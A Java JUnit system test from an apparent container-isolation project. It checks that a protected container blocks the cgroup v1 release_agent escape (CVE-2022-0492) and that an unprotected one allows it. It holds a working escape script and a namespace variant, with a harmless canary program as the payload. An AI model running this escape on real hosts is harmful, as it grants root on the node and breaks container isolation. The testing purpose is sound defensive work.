// SPDX-License-Identifier: Apache-2.0
package dev.eci.system.attack.node;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.eci.harness.docker.DockerHost;
import dev.eci.system.attack.AttackOutcome;
import dev.eci.system.attack.ProtectedAndUnprotected;
import dev.eci.system.docker.RequiresDockerHost;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;

/**
 * The escape by release_agent (cgroup v1, 2019; CVE-2022-0492): the kernel runs a program of the
 * attacker's choice as the node's root when a cgroup becomes empty.
 *
 * <p>Real, on a hierarchy that the attack makes for itself. Simulated: the program lies where the
 * kernel, outside of all namespaces, finds it; a real attacker reads that path out of the mount
 * table.
 */
@RequiresDockerHost
@Order(122)
class ReleaseAgentTest {
  private static final String ESCAPE =
      """
      set -e
      mkdir -p /cg && mount -t cgroup -o none,name=eci-attack none /cg
      echo %s > /cg/release_agent
      mkdir -p /cg/x && echo 1 > /cg/x/notify_on_release
      sh -c "echo \\$\\$ > /cg/x/cgroup.procs"
      sleep 0.5; rmdir /cg/x; umount /cg
      """;

  /**
   * In a cgroup namespace of its own, which its root may mount, it requests an existing hierarchy.
   */
  private static final String IN_OWN_NAMESPACE =
      """
      unshare -C sh -c "mkdir -p /cg2 && mount -t cgroup -o pids none /cg2 && /srv/attack/kernel open /cg2/release_agent"
      """;

  @Test
  @DisplayName("ISO-4: no escape by release_agent")
  void deniesEscapeByReleaseAgent(DockerHost host) throws IOException {
    assumeTrue(host.exec("test", "-d", "/sys/fs/cgroup/pids").isSuccess(), "cgroup v1");
    Path directory = Files.createTempDirectory("eci-attack");
    Path program = directory.resolve("run");
    Path canary = directory.resolve("canary");
    Files.writeString(program, "#!/bin/sh\nid -u > " + canary + "\n");
    Files.setPosixFilePermissions(program, PosixFilePermissions.fromString("rwxr-xr-x"));
    try (ProtectedAndUnprotected protectedAndUnprotected =
        ProtectedAndUnprotected.start(host, "attack-release", "--privileged")) {
      AttackOutcome.assertDeniedByKernel(
          "release_agent", protectedAndUnprotected.runProtected(ESCAPE.formatted(program)));
      assertThat(protectedAndUnprotected.runProtected(IN_OWN_NAMESPACE).isSuccess()).isFalse();
      assertThat(canary).doesNotExist();
      AttackOutcome.assertSucceeded(
          "release_agent", protectedAndUnprotected.runUnprotected(ESCAPE.formatted(program)));
      assertThat(canary).hasContent("0");
    } finally {
      // the kernel keeps a hierarchy whose last cgroup was not quite gone at the last unmount
      host.script(
          "mkdir -p /run/cg && mount -t cgroup -o none,name=eci-attack none /run/cg && umount /run/cg");
      Files.deleteIfExists(canary);
      Files.delete(program);
      Files.delete(directory);
    }
  }
}
